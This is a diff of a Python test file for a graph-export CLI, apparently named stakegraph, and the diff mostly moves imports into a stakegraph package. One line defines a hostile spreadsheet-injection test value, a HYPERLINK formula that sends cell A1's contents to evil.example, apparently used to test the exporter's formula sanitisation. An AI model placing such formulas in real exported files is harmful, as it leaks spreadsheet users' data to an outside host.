@@ -24,8 +24,8 @@ import openpyxl
 import pytest
 from typer.testing import CliRunner, Result
 
-from cli.main import app
-from graph.export import (
+from stakegraph.cli.main import app
+from stakegraph.export import (
     FORMULA_PREFIXES,
     SHEET_NAME_MAX,
     ExportError,
@@ -34,10 +34,10 @@ from graph.export import (
     to_csv_files,
     to_xlsx_sheets,
 )
-from graph.model import EdgeRecord, NodeRecord
-from graph.store import EmbeddedStore
-from loaders import load
-from loaders.generate.sample import DEFAULT_DIR as SAMPLE
+from stakegraph.loaders import load
+from stakegraph.model import EdgeRecord, NodeRecord
+from stakegraph.samples.sample import DEFAULT_DIR as SAMPLE
+from stakegraph.store import EmbeddedStore
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 ANALYZE = ["concentration", "dependencies", "groups", "exposures", "cofinancing", "contagion", "health", "lifecycle"]
@@ -249,7 +249,7 @@ def test_unwritable_xlsx_path_is_a_clear_error_and_writes_nothing(tmp_path: Path
 
 
 def test_a_failure_mid_export_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    import graph.export as export
+    import stakegraph.export as export
 
     out = tmp_path / "out"
     out.mkdir()
